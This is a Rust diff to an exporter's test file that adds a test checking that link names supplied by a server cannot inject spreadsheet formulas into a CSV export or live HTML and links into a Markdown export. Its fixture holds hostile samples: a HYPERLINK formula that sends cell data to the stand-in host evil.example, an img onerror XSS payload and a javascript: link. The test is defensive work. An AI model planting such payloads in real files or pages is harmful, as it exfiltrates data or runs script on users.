@@ -47,7 +47,16 @@ fn parse_markdown(text: &str) -> Vec<Vec<String>> {
                     _ => cells.last_mut().unwrap().push(c),
                 }
             }
-            cells.iter().map(|c| c.trim().to_string()).collect()
+            // The three entities the export writes, as a Markdown renderer decodes them.
+            cells
+                .iter()
+                .map(|c| {
+                    c.trim()
+                        .replace("&lt;", "<")
+                        .replace("&gt;", ">")
+                        .replace("&amp;", "&")
+                })
+                .collect()
         })
         .collect()
 }
@@ -166,4 +175,68 @@ fn a_page_seen_twice_adds_nothing_new() {
     assert_eq!(map.add_page("https://a/api/org/1", &page), 19);
     assert_eq!(map.add_page("https://a/api/org/1?again", &page), 0);
     assert!(map.rows().iter().all(|r| r.page == "https://a/api/org/1"));
+}
+
+fn hostile_map() -> LinkMap {
+    let mut map = LinkMap::default();
+    let names = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "<img src=x onerror=alert(1)>",
+        "[click](javascript:alert(1))",
+    ];
+    let page = PageLinks {
+        links: names
+            .iter()
+            .enumerate()
+            .map(|(i, name)| Link {
+                rel: "down".into(),
+                method: "GET".into(),
+                media_type: None,
+                href: format!("https://vcd.example/api/entity/{i}"),
+                name: Some(name.to_string()),
+            })
+            .collect(),
+        references: vec![],
+    };
+    map.add_page("https://vcd.example/api/org", &page);
+    map
+}
+
+#[test]
+fn a_server_cannot_put_a_formula_into_the_csv_or_html_into_the_markdown() {
+    let dir = std::env::temp_dir().join(format!("vcd-links-hostile-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    let map = hostile_map();
+
+    let csv_path = dir.join("links.csv");
+    save(map.rows(), &csv_path).unwrap();
+    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap().get(6).unwrap().to_string())
+        .collect();
+    assert_eq!(names.len(), 6);
+    for name in &names {
+        // A spreadsheet runs a cell starting with = + - @ as a formula; a leading ' makes it text.
+        assert!(!name.starts_with(['=', '+', '-', '@']), "{name}");
+    }
+    assert_eq!(names[1], "'+1+1");
+    assert_eq!(names[4], "<img src=x onerror=alert(1)>");
+
+    let md_path = dir.join("links.md");
+    save(map.rows(), &md_path).unwrap();
+    let md = std::fs::read_to_string(&md_path).unwrap();
+    assert!(!md.contains('<'), "raw HTML in the Markdown: {md}");
+    assert!(
+        !md.contains("](javascript"),
+        "a live link in the Markdown: {md}"
+    );
+    let cells = parse_markdown(&md);
+    assert_eq!(cells[4][6], "<img src=x onerror=alert(1)>");
+    assert_eq!(cells[5][6], "[click](javascript:alert(1))");
+    std::fs::remove_dir_all(&dir).unwrap();
 }
